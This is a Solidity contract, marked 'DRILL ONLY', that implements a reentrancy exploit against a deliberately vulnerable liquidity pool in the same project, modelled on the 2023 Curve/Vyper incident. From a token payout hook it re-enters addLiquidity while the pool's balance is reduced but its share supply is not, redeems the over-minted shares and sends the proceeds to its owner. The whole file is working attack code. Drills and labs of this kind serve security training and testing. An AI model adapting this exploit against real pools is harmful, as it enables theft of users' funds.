// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {DrillHookToken, IDrillTokenRecipient} from "./DrillHookToken.sol";
import {ReentrantLpPool} from "./ReentrantLpPool.sol";

/// @title PoolReentrancyAttacker
/// @notice DRILL ONLY. The Curve/Vyper 2023-07-30 exploit against ReentrantLpPool, one round
/// per `strike`: add liquidity, remove it, and from the payout hook re-enter addLiquidity
/// (priced with the pool's balance already reduced but its LP supply not), then remove the
/// over-minted shares. Fund it with tokens first (they stand in for the flash loan).
contract PoolReentrancyAttacker is IDrillTokenRecipient {
    ReentrantLpPool public immutable pool;
    DrillHookToken public immutable token;
    address public immutable owner;
    bool private _armed;

    event Strike(uint256 seed, uint256 balanceBefore, uint256 balanceAfter);

    error NotOwner(address caller);

    constructor(ReentrantLpPool pool_) {
        pool = pool_;
        token = DrillHookToken(address(pool_.token()));
        owner = msg.sender;
        token.registerHook(true);
        IERC20(address(token)).approve(address(pool_), type(uint256).max);
    }

    /// @notice One round of the exploit with `seed` tokens of own liquidity.
    function strike(uint256 seed) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 before = token.balanceOf(address(this));
        uint256 shares = pool.addLiquidity(seed, address(this));
        _armed = true;
        pool.removeLiquidity(shares, address(this)); // re-enters in tokensReceived
        _armed = false;
        pool.removeLiquidity(pool.balanceOf(address(this)), address(this));
        emit Strike(seed, before, token.balanceOf(address(this)));
    }

    /// @notice Send everything to the owner.
    function cashOut() external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        IERC20(address(token)).transfer(owner, token.balanceOf(address(this)));
    }

    /// @inheritdoc IDrillTokenRecipient
    function tokensReceived(address from, uint256) external {
        if (msg.sender != address(token) || from != address(pool) || !_armed) return;
        _armed = false;
        // Re-enter: deposit as much as the pool now holds (capital permitting).
        uint256 mine = token.balanceOf(address(this));
        uint256 inPool = token.balanceOf(address(pool));
        uint256 amount = mine < inPool ? mine : inPool;
        if (amount != 0) pool.addLiquidity(amount, address(this));
    }
}
